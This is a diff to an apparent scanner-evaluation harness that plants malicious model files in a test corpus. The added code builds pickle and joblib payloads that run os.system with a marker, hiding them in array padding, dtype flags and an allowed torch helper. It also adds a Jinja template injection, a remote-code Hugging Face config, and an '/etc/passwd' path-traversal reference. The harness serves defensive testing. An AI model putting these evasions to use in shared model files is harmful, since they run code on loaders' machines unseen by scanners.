@@ -317,7 +317,7 @@ def plant(block: bytes) -> list[str]:
         onnx_bytes(1024, block, external="../../../etc/passwd")
     )
     plant_evasions(p, marker, block)
-    return sorted(str(f.relative_to(CORPUS)) for f in p.iterdir())
+    return sorted(str(f.relative_to(CORPUS)) for f in p.rglob("*") if f.is_file())
 
 
 def plant_evasions(p: Path, marker: str, block: bytes) -> None:
@@ -342,6 +342,58 @@ def plant_evasions(p: Path, marker: str, block: bytes) -> None:
     (p / "lzma_alone.joblib").write_bytes(lzma.compress(evil, format=lzma.FORMAT_ALONE))
     # a pickle in front of a GGUF header: torch.load's legacy path reads it from offset 0
     (p / "polyglot.gguf").write_bytes(evil + gguf_bytes("{{ messages }}"))
+    plant_session3(p, marker)
+
+
+def _joblib_array(flags: int, count: int, align: bool) -> bytes:
+    """joblib's NumpyArrayWrapper for a float64 array whose dtype state carries ``flags``."""
+    dtype = (
+        g("numpy", "dtype") + u("f8") + b"\x89\x88\x87R"
+        + b"(K\x03" + u("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xff"
+        + b"J" + struct.pack("<i", flags) + b"tb"
+    )  # fmt: skip
+    state = (
+        b"}(" + u("subclass") + g("numpy", "ndarray") + u("shape")
+        + b"J" + struct.pack("<i", count) + b"\x85" + u("order") + u("C") + u("dtype") + dtype
+        + (u("numpy_array_alignment_bytes") + b"K\x10" if align else b"") + b"u"
+    )  # fmt: skip
+    return b"\x80\x02" + g("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
+
+
+def plant_session3(p: Path, marker: str) -> None:
+    """Evasions found in the third session: joblib's arrays and the plain-pickle view of a
+    joblib file, the pure-Python unpickler joblib uses, allowed functions that call their
+    arguments, chat templates with names built at run time, Hugging Face remote code."""
+    evil = call("os", "system", marker)
+    # the padding byte is an opcode (78, N) and the padding a payload: pickle.load runs it
+    body = evil[2:-1] + b"0"
+    pad = (body + b"N0" * 80)[:78]
+    (p / "joblib_padding.joblib").write_bytes(
+        _joblib_array(0, 8, True) + bytes([78]) + pad + b"N0" * 32 + b"."
+    )
+    # float64 whose pickled dtype state says "has objects": joblib reads a nested pickle
+    core = evil[:-1]
+    nested = core + b"N" * (-(len(core) + 1) % 8) + b"."
+    (p / "joblib_dtype_flags.joblib").write_bytes(
+        _joblib_array(1, len(nested) // 8, False) + nested + b"."
+    )
+    # the last line without its newline: pickle._Unpickler (joblib.load) calls os.system
+    (p / "eof_inst.joblib").write_bytes(b"(V" + marker.encode() + b"\nios\nsystem.")
+    # an allowed torch rebuild helper calling its first argument with the command
+    (p / "rebuild_from_type.pkl").write_bytes(
+        b"\x80\x02" + g("torch._tensor", "_rebuild_from_type_v2")
+        + b"(" + g("evil_tools.shell", "run") + g("torch", "Tensor")
+        + b"(V" + marker.encode() + b"\nt}tR."
+    )  # fmt: skip
+    (p / "folded_template.gguf").write_bytes(
+        gguf_bytes(
+            "{{ namespace[('_'*2)~'init'~('_'*2)][('%s%sglobals%s%s'|format('_','_','_','_'))] }}"
+        )
+    )
+    (p / "hf_remote_code").mkdir(exist_ok=True)
+    (p / "hf_remote_code" / "config.json").write_text(
+        json.dumps({"model_type": "x", "auto_map": {"AutoModel": "someone/repo--modeling_x.X"}})
+    )
 
 
 # -- running the tools ------------------------------------------------------------------------
@@ -433,7 +485,9 @@ def main() -> None:
             check=True,
         )
     if args.reuse and CORPUS.exists():
-        planted = sorted(str(f.relative_to(CORPUS)) for f in (CORPUS / "planted").iterdir())
+        planted = sorted(
+            str(f.relative_to(CORPUS)) for f in (CORPUS / "planted").rglob("*") if f.is_file()
+        )
         n_files = sum(1 for p in CORPUS.rglob("*") if p.is_file())
     else:
         print(f"building a {args.gb} GiB corpus in {CORPUS} ...", flush=True)
